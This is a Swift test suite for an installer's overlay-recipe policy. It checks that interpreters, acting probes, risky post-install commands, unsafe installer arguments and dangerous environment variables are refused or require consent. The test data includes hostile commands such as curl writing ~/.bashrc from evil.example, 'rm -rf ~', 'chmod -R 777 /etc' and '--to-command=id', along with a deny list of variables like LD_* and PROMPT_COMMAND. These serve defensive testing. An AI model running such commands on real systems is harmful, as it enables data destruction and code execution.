import Catalog
import Foundation
import InstallModel
import Testing

/// What an overlay's commands may do (`OverlayCommandPolicy`, `InstallerOptionGrammar`, overlay aliases): the
/// probe names no interpreter and passes plain words, evlog sets the floor of a post-install command's risk,
/// language `args:` come from a per-installer allow-list, and an alias stays with the recipe that has it.
/// Cases are generated from a seed.
struct OverlayCommandPolicyTests {
    /// The error laying `recipes` over the built-in catalog is refused with, or the catalog.
    static func overlaid(_ recipes: String) -> Loaded {
        let file = RecordedRecipeFile(file: "acme/recipes/t.yaml", text: recipes)
        let result = TestSupport.catalog.overlaid(byRecorded: [file])
        if let skipped = result.skipped.first { return .refused(skipped) }
        return .loaded(result.catalog)
    }

    /// An overlay laid on, or the one-line error it was refused with.
    enum Loaded {
        case loaded(Catalog), refused(String)

        func get() throws -> Catalog {
            switch self {
            case .loaded(let catalog): return catalog
            case .refused(let message): throw CatalogError.invalidData(file: "overlay", line: nil, message: message)
            }
        }
    }

    static func recipe(binary: String = "goodbin", verify: String = "{pattern: '^x'}", method: String = "packages: {apt: jq}",
                       aliases: String = "[]", post: String = "") -> String {
        "hostile-tool:\n  description: x\n  binary: \(binary)\n  aliases: \(aliases)\n  verify: \(verify)\n  methods:\n    - \(method)\n\(post)"
    }

    static let interpreters = ["sh", "bash", "dash", "zsh", "ksh", "fish", "python", "perl", "ruby", "node", "env", "busybox", "xargs", "awk", "sudo", "find"]

    /// An interpreter's name as it may appear on a system: with a version tail, in capitals, or as a path.
    static func interpreterName(_ generator: inout SplitMix64) -> String {
        var name = interpreters[Int(generator.next() % UInt64(interpreters.count))]
        switch generator.next() % 4 {
        case 0: name += "\(generator.next() % 4)"
        case 1: name += "\(generator.next() % 4).\(generator.next() % 13)"
        case 2: name = name.uppercased()
        default: break
        }
        return name
    }

    @Test func aGoodOverlayStillLoads() throws {
        let good = Self.recipe(verify: "{args: [version, --client, --remote=false], pattern: '^x'}", method: "cargo: {package: ripgrep, args: [--locked, --features, 'pcre2,simd']}")
        if case .refused(let message) = Self.overlaid(good) { Issue.record("\(message)") }
    }

    @Test func anInterpreterAsBinaryOrProbeIsRefusedAtLoad() {
        var generator = SplitMix64(seed: 23)
        for _ in 0..<200 {
            let name = Self.interpreterName(&generator)
            let viaCommand = generator.next() % 2 == 0
            let text = viaCommand
                ? Self.recipe(verify: "{command: [\(name), '-c', 'touch /tmp/x'], pattern: '^x'}")
                : Self.recipe(binary: name, verify: "{args: [version], pattern: '^x'}")
            guard case .refused(let message) = Self.overlaid(text) else {
                Issue.record("\(name) (\(viaCommand ? "verify command" : "binary")) loaded")
                continue
            }
            #expect(message.contains("acme/recipes/t.yaml") && message.contains("hostile-tool") && !message.contains("\n"), "\(message)")
        }
    }

    /// integrity10 finding 17: a name is a shell by what it is, not by ending in "sh". Generated names that end in
    /// "sh" without being a shell load; every shell with a version tail or in capitals is still refused.
    @Test func aNameEndingInShThatIsNoShellIsABinaryAndEveryShellIsStillRefused() {
        var generator = SplitMix64(seed: 17)
        let stems = ["refre", "publi", "sta", "gh-da", "evl10-zbacksla", "fini", "pu", "mar", "spla"]
        for stem in stems {
            let name = stem + "sh" + (generator.next() % 2 == 0 ? "" : "-\(generator.next() % 9)")
            if case .refused(let message) = Self.overlaid(Self.recipe(binary: name)) { Issue.record("\(name) refused: \(message)") }
        }
        for shell in ["sh", "bash", "dash", "zsh", "ksh93", "mksh", "fish", "tcsh", "csh", "ash", "yash", "ssh", "BASH5.2", "zsh-5"] {
            guard case .refused = Self.overlaid(Self.recipe(binary: shell)) else {
                Issue.record("\(shell) loaded as an overlay binary")
                continue
            }
        }
    }

    @Test func aProbeArgumentThatIsNotAPlainWordIsRefused() {
        var generator = SplitMix64(seed: 5)
        let hostile = ["/", " ", ";", "$", "`", "'", "|", "&", "(", "\\u0007", ":", "@", "*"]
        for _ in 0..<100 {
            let insert = hostile[Int(generator.next() % UInt64(hostile.count))]
            let argument = "\"ver\(insert)sion\""
            guard case .refused(let message) = Self.overlaid(Self.recipe(verify: "{args: [\(argument)], pattern: '^x'}")) else {
                Issue.record("verify argument \(argument) loaded")
                continue
            }
            #expect(message.contains("verify argument") && !message.contains("\n"), "\(message)")
        }
    }

    @Test func anOverlayCommandIsAtLeastHighRiskWhenRootOrAnInterpreter() throws {
        var generator = SplitMix64(seed: 3)
        for _ in 0..<60 {
            let root = generator.next() % 2 == 0
            let interpreter = !root || generator.next() % 2 == 0
            let argv0 = interpreter ? Self.interpreterName(&generator).lowercased() : "systemctl"
            let declared = Risk.allCases[Int(generator.next() % 4)]
            let post = "      post_install:\n        - command: {argv: [\(argv0), '-c', 'x'], risk: \(declared.rawValue), root: \(root)}\n"
            let catalog = try Self.overlaid(Self.recipe(post: post)).get()
            guard case .command(let command)? = catalog.recipe(named: "hostile-tool")?.methods.first?.postInstall.first else {
                Issue.record("no command")
                continue
            }
            #expect(command.risk == max(declared, .high), "\(argv0) root=\(root) declared \(declared): \(String(describing: command.risk))")
        }
        let plain = "      post_install:\n        - command: {argv: [goodbin, init, --quiet], risk: medium}\n"
        guard case .command(let command)? = try Self.overlaid(Self.recipe(post: plain)).get().recipe(named: "hostile-tool")?.methods.first?.postInstall.first
        else { Issue.record("no command"); return }
        #expect(command.risk == .medium, "the recipe's own program with plain words, run as the user, keeps the risk the overlay gave it")
    }

    /// trust16 #7: a user-level command that is not the recipe's own program given plain words needs consent, however
    /// harmless its program's name looks: it may write a shell startup file, run a command through an option, run a
    /// package's build code or load any file. Generated from programs and arguments of those shapes.
    @Test func anyOtherUserCommandIsHighRisk() throws {
        let programs = ["rm", "curl", "cp", "git", "tar", "pip", "npm", "gem", "/lib64/ld-linux-x86-64.so.2", "systemctl", "ln", "goodbin"]
        let arguments = [["-rf", "'~'"], ["-o", "'~/.bashrc'", "https://evil.example/x"], ["/tmp/x", "'~/.bashrc'"], ["-c", "core.pager=id", "log"],
                         ["-xf", "x.tar", "--to-command=id"], ["install", "evil"], ["/tmp/x"], ["-s", "/tmp/x", "'~/.profile'"]]
        var generator = SplitMix64(seed: 7)
        for _ in 0..<60 {
            let program = programs[Int(generator.next() % UInt64(programs.count))]
            let argv = [program] + arguments[Int(generator.next() % UInt64(arguments.count))]
            let post = "      post_install:\n        - command: {argv: [\(argv.joined(separator: ", "))], risk: low}\n"
            let catalog = try Self.overlaid(Self.recipe(post: post)).get()
            guard case .command(let command)? = catalog.recipe(named: "hostile-tool")?.methods.first?.postInstall.first else {
                Issue.record("no command: \(argv)")
                continue
            }
            #expect(command.risk == .high, "\(argv): \(String(describing: command.risk))")
        }
    }

    /// trust19 #1: a recipe whose `binary` is a program the system has (`rm`, `curl`, `tar`) does not make that program
    /// its own, and plain words are no `.`, `..`, dot-file or option set to a value: generated from both shapes, each
    /// command needs consent; the same words given to a program of the recipe's own stay below it.
    @Test func aSystemProgramOrAWordNamingTheDirectoryIsNotTheRecipesOwnPlainCommand() throws {
        let systemPrograms = ["rm", "cp", "tar", "ls", "chmod", "mv"].filter { name in
            ["/usr/bin/", "/bin/"].contains { FileManager.default.fileExists(atPath: $0 + name) }
        }
        try #require(!systemPrograms.isEmpty)
        let words = [["-rf", "."], ["..", "x"], ["-o", ".bashrc"], ["-xf", "x", "--to-command=id"], ["init", "--quiet"], ["--format=json"]]
        var generator = SplitMix64(seed: 19)
        for _ in 0..<40 {
            let system = systemPrograms[Int(generator.next() % UInt64(systemPrograms.count))]
            let argument = words[Int(generator.next() % UInt64(words.count))]
            let plainWords = argument.allSatisfy { !$0.hasPrefix(".") && !($0.hasPrefix("-") && $0.contains("=")) }
            for program in [system, "goodbin"] {
                let argv = ([program] + argument).map { "'\($0)'" }.joined(separator: ", ")
                let post = "      post_install:\n        - command: {argv: [\(argv)], risk: low}\n"
                let catalog = try Self.overlaid(Self.recipe(binary: program, post: post)).get()
                guard case .command(let command)? = catalog.recipe(named: "hostile-tool")?.methods.first?.postInstall.first else {
                    Issue.record("no command: \(argv)")
                    continue
                }
                let own = program == "goodbin" && plainWords
                #expect(command.risk == (own ? .low : .high), "binary \(program), [\(argv)]: \(String(describing: command.risk))")
            }
        }
    }

    @Test func languageArgsOutsideTheInstallersAllowListAreRefusedWithFileAndLine() {
        let hostile: [(String, String)] = [
            ("cargo", "[--config, 'build.rustc-wrapper=/tmp/evil']"), ("cargo", "[--root, /]"), ("cargo", "[--git, 'http://e.example/x']"),
            ("cargo", "[--features]"), ("cargo", "['--features=-x']"), ("cargo", "['--locked=yes']"),
            ("go", "['-toolexec=/tmp/evil']"), ("go", "[--locked]"), ("pipx", "['--index-url=http://e.example/simple']"),
            ("pipx", "['--pip-args=--trusted-host e.example']"), ("npm", "['--registry=http://e.example']"), ("npm", "['--prefix=/']"),
            ("npm", "[--unsafe-perm]"), ("pip", "[--include-deps]"), ("gem", "[--locked]"),
        ]
        for (installer, args) in hostile {
            let package = installer == "go" ? "example.com/x/cmd@latest" : "good-package"
            guard case .refused(let message) = Self.overlaid(Self.recipe(method: "\(installer): {package: \(package), args: \(args)}")) else {
                Issue.record("\(installer) args \(args) loaded")
                continue
            }
            #expect(message.contains("acme/recipes/t.yaml:") && message.contains("args") && !message.contains("\n"), "\(message)")
        }
    }

    @Test func anAliasOfABuiltInRecipeIsRefusedLikeItsName() {
        let aliased = TestSupport.catalog.recipes.values.filter { !$0.aliases.isEmpty }.sorted { $0.name < $1.name }
        var generator = SplitMix64(seed: 11)
        for _ in 0..<20 {
            let owner = aliased[Int(generator.next() % UInt64(aliased.count))]
            let alias = owner.aliases[Int(generator.next() % UInt64(owner.aliases.count))]
            guard case .refused(let message) = Self.overlaid(Self.recipe(aliases: "[\(alias)]")) else {
                Issue.record("alias \(alias) of \(owner.name) taken over")
                continue
            }
            #expect(message.contains("alias '\(alias)'") && message.contains(owner.name), "\(message)")
        }
    }
    /// A repository may not replace the distribution's own keyring or sources file (generated names).
    @Test func aRepositoryNamingTheDistributionsOwnFilesIsRefused() {
        var generator = SplitMix64(seed: 4)
        let recipe = "hostile-tool:\n  description: x\n  binary: goodbin\n  verify: {pattern: '^x'}\n  methods:\n    - packages: {apt: {name: acme-cli, repo: acme}}\n"
        for _ in 0..<40 {
            let distribution = ["ubuntu", "debian", "raspbian"][Int(generator.next() % 3)]
            let keyringLike = generator.next() % 2 == 0
            let keyring = keyringLike ? "/usr/share/keyrings/\(distribution)-archive-keyring.gpg" : "/etc/apt/keyrings/acme.gpg"
            let source = keyringLike ? "/etc/apt/sources.list.d/acme.list" : "/etc/apt/sources.list.d/\(["\(distribution).sources", "sources.list"][Int(generator.next() % 2)])"
            let repos = "acme:\n  apt: {key_url: \"https://example.com/key.asc\", keyring: \"\(keyring)\", source: \"deb [signed-by=\(keyring)] https://example.com/apt stable main\", source_path: \"\(source)\"}\n"
            #expect(throws: CatalogError.self, "\(keyring) \(source)") {
                try Catalog(recipeFiles: [("acme/recipes/t.yaml", recipe)], repositoryFile: ("acme/repos.yaml", repos))
            }
        }
    }
}

/// The "already installed?" probe of an overlay asks for a version and nothing more (`OverlayCommandPolicy.probeProblem`),
/// and an overlay's absolute binary lies under a system program directory: what `evlog plan` runs before any consent
/// can name no file, process or package to act on (trust9 N1, N2).
struct OverlayProbeTests {
    /// Probes that act: each was accepted before, and `evlog plan` ran it.
    static let acting: [[String]] = [
        ["zzpwned9"], ["-9", "zzvictim9"], ["-9", "-1"], ["now"], ["poweroff"], ["purge", "-y", "openssh-server"],
        ["install", "evilpkg"], ["-m", "venv", "zzvenv9"], ["zz", "-v"], ["-v", "zz"], ["of=x", "--version"],
        ["--version", "zz"], ["-V", "--client"], ["version", "--version"], ["--x=..", "--version"],
        ["run", "evilorg", "--version"], ["sh", "pwn", "--version"], ["evilsub", "--version"],
        ["version", "--server=evil.example"], ["version", "--kubeconfig=cfg"], ["--version", "--config=x"],
    ]

    /// Probes the built-in catalog's recipes use (`nextest --version` of a program named `…-nextest`).
    static let asking: [[String]] = [
        ["--version"], ["version"], ["-version"], ["-v"], ["-V"], ["version", "--short"], ["version", "--client"],
        ["version", "--remote=false"], ["nextest", "--version"], ["version", "--client", "--short"], ["--numeric-version"],
    ]

    @Test func aProbeThatActsIsRefusedAndOneThatAsksForAVersionLoads() {
        for arguments in Self.acting {
            let args = arguments.map { "'\($0)'" }.joined(separator: ", ")
            guard case .refused(let message) = OverlayCommandPolicyTests.overlaid(OverlayCommandPolicyTests.recipe(binary: "touch", verify: "{args: [\(args)], pattern: '^x'}")) else {
                Issue.record("\(arguments) loaded")
                continue
            }
            #expect(message.contains("acme/recipes/t.yaml") && message.contains("asks for a version") && !message.contains("\n"), "\(message)")
            let command = "{command: [pkill, \(args)], pattern: '^x'}"
            if case .loaded = OverlayCommandPolicyTests.overlaid(OverlayCommandPolicyTests.recipe(verify: command)) { Issue.record("command \(arguments) loaded") }
        }
        for arguments in Self.asking {
            let args = arguments.map { "'\($0)'" }.joined(separator: ", ")
            let recipe = OverlayCommandPolicyTests.recipe(binary: "cargo-nextest", verify: "{args: [\(args)], pattern: '^x'}")
            if case .refused(let message) = OverlayCommandPolicyTests.overlaid(recipe) { Issue.record("\(arguments): \(message)") }
        }
    }

    /// A dispatcher's subcommand picks another program (`docker run IMAGE`, `cargo PLUGIN`, `strace sh FILE`): only
    /// the words the probed program's own name ends with may come before the version word (integrity10 finding 9).
    @Test(arguments: ["docker", "cargo", "strace", "kubectl", "gh", "zz-tool"])
    func aSubcommandWordTheProgramsNameDoesNotEndWithIsRefused(binary: String) {
        for words in [["run", "evilorg"], ["evilsub"], ["sh", "pwn"], ["tool", "zz"]] {
            let args = (words + ["--version"]).map { "'\($0)'" }.joined(separator: ", ")
            let recipe = OverlayCommandPolicyTests.recipe(binary: binary, verify: "{args: [\(args)], pattern: '^x'}")
            guard case .refused(let message) = OverlayCommandPolicyTests.overlaid(recipe) else {
                Issue.record("\(binary) \(words) loaded")
                continue
            }
            #expect(message.contains("asks for a version") && message.contains("name ends with"), "\(message)")
        }
        let own = OverlayCommandPolicyTests.recipe(binary: "zz-tool", verify: "{args: [tool, --version], pattern: '^x'}")
        if case .refused(let message) = OverlayCommandPolicyTests.overlaid(own) { Issue.record("zz-tool tool --version: \(message)") }
    }

    /// Generated probes: subcommand words, a version word, options, in a seeded order and mix, of a program named
    /// `tool-zz9`; a probe loads exactly when it is the program's own subcommand word (`zz9`) or none, then one
    /// version word (a short one alone), then options bare or boolean.
    @Test(arguments: 0..<100)
    func probesAreJudgedByTheirShape(seed: UInt64) {
        var generator = SplitMix64(seed: seed)
        let pools = [["run", "zz9", "purge"], ["--version", "version", "-V", "-v"], ["--client", "--short", "--remote=false", "--output=short"]]
        var kinds: [Int] = (0..<Int(1 + generator.next() % 4)).map { _ in Int(generator.next() % 3) }
        if generator.next() % 2 == 0 { kinds.sort() }
        let arguments = kinds.map { pools[$0][Int(generator.next() % UInt64(pools[$0].count))] }
        let versions = kinds.indices.filter { kinds[$0] == 1 }
        let subcommands = arguments.indices.filter { kinds[$0] == 0 }.map { arguments[$0] }
        let shaped = versions.count == 1 && kinds == kinds.sorted()
            && !(arguments[versions[0]].count == 2 && arguments.count > 1)
            && (subcommands.isEmpty || subcommands == ["zz9"]) && !arguments.contains("--output=short")
        let args = arguments.map { "'\($0)'" }.joined(separator: ", ")
        let result = OverlayCommandPolicyTests.overlaid(OverlayCommandPolicyTests.recipe(binary: "tool-zz9", verify: "{args: [\(args)], pattern: '^x'}"))
        if case .loaded = result { #expect(shaped, "\(arguments) loaded") } else { #expect(!shaped, "\(arguments) refused: \(result)") }
    }

    @Test func anOverlayPackageBinaryOutsideTheSystemsProgramDirectoriesIsRefused() {
        for binary in ["/tmp/zzevil9", "/dev/shm/x", "/proc/self/exe", "/home/u/bin/x", "/usr/bin/python3", "/bin/sh", "/usr/tmp/x"] {
            let method = "packages: {apt: {name: zz, binary: '\(binary)'}}"
            guard case .refused(let message) = OverlayCommandPolicyTests.overlaid(OverlayCommandPolicyTests.recipe(method: method)) else {
                Issue.record("\(binary) loaded")
                continue
            }
            #expect(message.contains("binary") && message.contains("acme/recipes/t.yaml"), "\(message)")
        }
        let method = "packages: {apt: {name: zz, binary: /usr/libexec/qemu-kvm}}"
        if case .refused(let message) = OverlayCommandPolicyTests.overlaid(OverlayCommandPolicyTests.recipe(method: method)) { Issue.record("\(message)") }
    }
}

/// An overlay's post-install command run by a root evlog is root's: at least high (consent) and shown as root,
/// whatever its `root:` says (trust9 N11: `chmod -R 777 /etc` ran as root, low risk, no consent); run by a user it
/// needs consent too, not being the recipe's own program (trust16 #7).
struct OverlayCommandAsRootTests {
    @Test(arguments: ["low", "medium"])
    func anOverlayCommandInARootPlanNeedsConsent(declared: String) throws {
        let post = "      post_install:\n        - command: {argv: [chmod, '-R', '777', /etc], risk: \(declared)}\n"
        let catalog = try OverlayCommandPolicyTests.overlaid(OverlayCommandPolicyTests.recipe(post: post)).get()
        for (profile, isRoot) in [("debian-container", true), ("ubuntu-desktop", false)] {
            let system = TestSupport.profile(profile)
            #expect(system.isRoot == isRoot)
            let plan = try Resolver(catalog: catalog).resolve(tools: ["hostile-tool"], profile: system, planID: PlanID("p-test"))
            let step = try #require(plan.steps.first { if case .postInstall = $0.action { true } else { false } }, "\(profile)")
            if isRoot {
                #expect(step.risk >= .high && step.needsRoot && plan.confirmationGate.contains(step.id), "\(profile): \(step.risk)")
            } else {
                // Not the recipe's own program: consent as the user too (trust16 #7), still not as root.
                #expect(step.risk >= .high && !step.needsRoot && plan.confirmationGate.contains(step.id), "\(profile): \(step.risk)")
            }
        }
    }
}

/// What an overlay may put in every later shell and run after an install (integrity10 findings 12, 13): `shell_env`
/// variables that change what runs or loads are refused at load, by their shape, and the consent line names every
/// variable the profile block sets; a release's `setup` runs only the downloaded program with plain options.
struct OverlayShellAndSetupTests {
    @Test(arguments: 0..<40)
    func aVariableThatChangesWhatRunsIsRefusedAndAToolsOwnLoads(seed: UInt64) {
        var generator = SplitMix64(seed: seed)
        let stem = ["ACME", "FOO_BAR", "X1", "TOOL"][Int(generator.next() % 4)]
        let refused = ["LD_\(stem)", "DYLD_\(stem)", "\(stem)_COMMAND", "\(stem)_CMD", "\(stem)_OPTIONS", "\(stem)OPTS", "\(stem)_PROXY",
                       "BASH_\(stem)", "GIT_\(stem)", "PS\(generator.next() % 5)", "PROMPT_COMMAND", "PATH", "ENV", "NODE_OPTIONS",
                       "PYTHONSTARTUP", "PYTHONPATH", "\(stem)_EDITOR", "\(stem)_PAGER", "SUDO_ASKPASS", "https_proxy",
                       // integrity11 #15: wrappers, init code, config and trust files, package sources.
                       "RUSTC_WRAPPER", "VISUAL", "PYTHONUSERBASE", "LUA_INIT", "DOTNET_STARTUP_HOOKS", "PHPRC", "SSL_CERT_FILE",
                       "PIP_INDEX_URL", "KUBECONFIG", "XDG_CONFIG_HOME", "\(stem)_CONFIG_FILE", "NPM_CONFIG_REGISTRY", "\(stem)_CA_BUNDLE",
                       // trust12 #11: anything that is not a tool's own place.
                       "GOENV", "OPENSSL_CONF", "PYTHONWARNINGS", "SSLKEYLOGFILE", "CC", "RUSTC", "ERL_FLAGS", "VIMRUNTIME", "FPATH",
                       "GNUPGHOME", "\(stem)_SETTINGS", "\(stem)"]
        let name = refused[Int(generator.next() % UInt64(refused.count))]
        let bad = OverlayCommandPolicyTests.recipe(post: "      post_install:\n        - shell_env: {env: {\(name): x}}\n")
        guard case .refused(let message) = OverlayCommandPolicyTests.overlaid(bad) else {
            Issue.record("\(name) loaded")
            return
        }
        #expect(message.contains(name) && message.contains("changes what programs or shells run"), "\(message)")
        let own = ["\(stem)_HOME", "GOPATH", "CARGO_HOME", "JAVA_HOME", "\(stem)_DIR", "\(stem)_ROOT", "DOTNET_CLI_TELEMETRY_OPTOUT", "GOBIN"][Int(generator.next() % 8)]
        let isPlace = !own.hasSuffix("_OPTOUT")
        let good = OverlayCommandPolicyTests.recipe(post: "      post_install:\n        - shell_env: {env: {\(own): \(isPlace ? "~/.acme" : "1")}}\n")
        if case .refused(let message) = OverlayCommandPolicyTests.overlaid(good) { Issue.record("\(own): \(message)") }
        // trust13 #6: a tool's place is one directory its owner alone writes to, as PATH entries are.
        guard isPlace else { return }
        let shared = ["/tmp/acme", "/dev/shm/acme", "/run/lock/acme", "/proc/self/cwd", ".", "acme", "~/a/../b", "/opt/a:/opt/b"][Int(generator.next() % 8)]
        let elsewhere = OverlayCommandPolicyTests.recipe(post: "      post_install:\n        - shell_env: {env: {\(own): '\(shared)'}}\n")
        if case .loaded = OverlayCommandPolicyTests.overlaid(elsewhere) { Issue.record("\(own)=\(shared) loaded") }
    }

    /// trust16 #9: a PATH entry or a tool's place is judged by who owns and may write it (and, not made yet, its
    /// nearest existing parent), links followed, not by a list of names: another user's directory, a group-writable
    /// one, and a link to a sticky one (`/var/lock` → `/run/lock`) are refused; the same directory made root's loads.
    @Test(.enabled(if: geteuid() == 0, "needs root to own and chown directories"))
    func aPathEntryOrPlaceAnotherUserMayChangeIsRefused() throws {
        // Outside /tmp, which the grammar refuses by name.
        let root = "/var/lib/evlog-locked-\(UUID().uuidString)"
        try FileManager.default.createDirectory(atPath: root, withIntermediateDirectories: false, attributes: [.posixPermissions: 0o755])
        defer { try? FileManager.default.removeItem(atPath: root) }
        let deploy = root + "/deploy", staff = root + "/staff", sticky = root + "/sticky"
        for (directory, owner, mode) in [(deploy, LockedPathTests.otherUser, 0o755), (staff, 0, 0o2775), (sticky, 0, 0o1777)] {
            try FileManager.default.createDirectory(atPath: directory, withIntermediateDirectories: false)
            LockedPathTests.set(directory, mode: mode, owner: owner, group: LockedPathTests.otherGroup)
        }
        try FileManager.default.createSymbolicLink(atPath: root + "/lock", withDestinationPath: sticky)
        for place in [deploy + "/bin", staff + "/bin", root + "/lock/bin"] {
            for post in ["path: ['\(place)']", "env: {ACME_HOME: '\(place)'}"] {
                let bad = OverlayCommandPolicyTests.recipe(post: "      post_install:\n        - shell_env: {\(post)}\n")
                guard case .refused(let message) = OverlayCommandPolicyTests.overlaid(bad) else {
                    Issue.record("\(post) loaded")
                    continue
                }
                #expect(message.contains("may be changed by another user"), "\(message)")
            }
        }
        LockedPathTests.set(staff, mode: 0o755)
        let good = OverlayCommandPolicyTests.recipe(post: "      post_install:\n        - shell_env: {path: ['\(staff)/bin']}\n")
        if case .refused(let message) = OverlayCommandPolicyTests.overlaid(good) { Issue.record("\(message)") }
    }

    /// integrity11 #19: a PATH entry is one absolute directory, not `.`, a relative one, a list, or one anyone may write to.
    @Test func aPathEntryIsOneAbsoluteDirectoryOfTheUserOrTheSystem() {
        for entry in [".", "bin", "./bin", "/tmp", "/tmp/evil/bin", "/var/tmp/x", "/dev/shm", "/opt/a:/tmp", "~/../x", "/usr/./bin",
                      "/proc/self/cwd", "/dev/fd/3", "/", "/run/user/0/bin", "/var/crash", "~/Downloads", "/mnt/usb/bin", "/opt/acme"] {
            let bad = OverlayCommandPolicyTests.recipe(post: "      post_install:\n        - shell_env: {path: ['\(entry)']}\n")
            guard case .refused = OverlayCommandPolicyTests.overlaid(bad) else {
                Issue.record("\(entry) loaded")
                continue
            }
        }
        for entry in ["~/.acme/bin", "/opt/acme/bin", "{brew_prefix}/opt/acme/bin", "/usr/local/acme/bin"] {
            let good = OverlayCommandPolicyTests.recipe(post: "      post_install:\n        - shell_env: {path: ['\(entry)']}\n")
            if case .refused(let message) = OverlayCommandPolicyTests.overlaid(good) { Issue.record("\(entry): \(message)") }
        }
    }

    @Test func theConsentLineNamesEveryVariable() throws {
        let post = "      post_install:\n        - shell_env: {env: {ACME_HOME: '~/.acme', ACME_DIR: '~/d'}}\n"
        let catalog = try OverlayCommandPolicyTests.overlaid(OverlayCommandPolicyTests.recipe(post: post)).get()
        let plan = try Resolver(catalog: catalog).resolve(tools: ["hostile-tool"], profile: TestSupport.profile("ubuntu-desktop"), planID: PlanID("p-test"))
        let label = try #require(plan.step("shell-path")).label
        #expect(label.contains("ACME_HOME=~/.acme") && label.contains("ACME_DIR=~/d") && !label.contains("Add  to PATH"), "\(label)")
    }

    @Test func aReleaseSetupRunsOnlyTheDownloadedProgram() {
        let sha = String(repeating: "a", count: 64)
        func release(_ setup: String) -> String {
            "release: {repo: a/b, version: '1.0', path: acmebin, setup: \(setup), assets: {linux-x86_64: {url: 'https://example.com/x.tgz', sha256: \(sha)}}}"
        }
        for setup in ["[sh, -c, 'touch /tmp/x']", "[bash, '{bin}']", "['{bin}', install, evil]", "['{bin}', '--config=/tmp/x']", "[/usr/bin/env, '{bin}']"] {
            guard case .refused(let message) = OverlayCommandPolicyTests.overlaid(OverlayCommandPolicyTests.recipe(method: release(setup))) else {
                Issue.record("setup \(setup) loaded")
                continue
            }
            #expect(message.contains("setup") && message.contains("acme/recipes/t.yaml"), "\(message)")
        }
        if case .refused(let message) = OverlayCommandPolicyTests.overlaid(OverlayCommandPolicyTests.recipe(method: release("['{bin}', -y, --no-modify-path]"))) {
            Issue.record("rustup's setup: \(message)")
        }
    }
}
